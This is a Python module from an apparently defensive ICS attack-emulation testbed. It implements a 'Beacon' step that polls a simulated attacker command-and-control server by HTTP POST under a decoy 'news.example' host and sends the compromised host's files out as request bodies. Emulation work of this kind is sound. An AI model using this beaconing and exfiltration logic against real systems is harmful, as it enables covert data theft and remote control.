"""Calling home: a program inside that asks somebody outside what to do, and takes things out.

ATT&CK for ICS T0869, T0885, T0882 and T0893; T0884 where it goes through another machine.
"""

from __future__ import annotations

import asyncio
from collections.abc import Iterator
from typing import Annotated, Literal

from pydantic import Field

from scenarios.attack import Attack, Seconds, Step
from testbed.network import Host
from testbed.site import Name, Port, Site

#: Seconds that a program waits for an answer from outside (assumption).
PATIENCE = 10.0


class Beacon(Step):
    """Ask a server of the attacker's in ``zone`` for orders by HTTP on ``port``, each ``every`` s for ``lasting`` s.

    With ``takes`` the files of this name that the machine has, or all for "", leave as the body of the requests.
    """

    action: Literal["beacon"]
    zone: Name
    port: Port = 443
    every: Seconds = 30.0
    lasting: Annotated[float, Field(ge=0)] = 300.0
    takes: str | None = None

    def lacks(self, site: Site) -> Iterator[str]:
        if self.zone not in site.zones:
            yield f"site {site.name!r} has no zone {self.zone!r}"

    async def carry_out(self, attack: Attack) -> None:
        world = attack.world
        server = _server(attack, self.zone, self.port)
        end, number, taken = world.loop.time() + self.lasting, 0, 0
        files = self._files(attack)
        while True:
            name = files[number] if number < len(files) else None
            body = world.computers[attack.host.name].files[name] if name is not None else b""
            try:
                async with asyncio.timeout(PATIENCE):
                    answer = await _ask(server.address, self.port, number, body)
            except OSError as error:
                attack.note(self, "failed", target=server.address, reason=type(error).__name__)
            else:
                done = answer.startswith(b"HTTP/1.1 200")
                attack.note(self, "done" if done else "refused", target=server.address, bytes=len(body))
                if done and name is not None:
                    taken += 1
                    world.trace.record("disclosed", server.name, what=name, amount=1)
            number += 1
            if world.loop.time() + self.every > end and number >= len(files):
                return
            await asyncio.sleep(self.every)

    def _files(self, attack: Attack) -> list[str]:
        computer = attack.world.computers.get(attack.host.name)
        if self.takes is None or computer is None:
            return []
        return [name for name in computer.files if self.takes in name]


def _server(attack: Attack, zone: str, port: int) -> Host:
    """The attacker's machine that answers, set up at the first call."""
    name = f"outside-{zone}"
    hosts = attack.world.network.hosts
    if name in hosts:
        return hosts[name]
    host = attack.world.network.host(name, zone, attack.world.network.zones[zone].free_address())

    async def serve() -> None:
        async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            try:
                head = await reader.readuntil(b"\r\n\r\n")
                size = int(head.partition(b"Content-Length: ")[2].partition(b"\r\n")[0] or b"0")
                await reader.readexactly(size)
                writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
                await writer.drain()
            except (OSError, EOFError, ValueError):
                pass  # somebody else's request
            finally:
                writer.close()

        await asyncio.start_server(answer, host.address, port)

    host.spawn(serve(), "command and control")
    return host


async def _ask(address: str, port: int, number: int, body: bytes) -> bytes:
    reader, writer = await asyncio.open_connection(address, port)
    try:
        head = f"POST /news/{number} HTTP/1.1\r\nHost: news.example\r\nContent-Length: {len(body)}\r\n\r\n"
        writer.write(head.encode() + body)
        return await reader.readline()
    finally:
        writer.close()
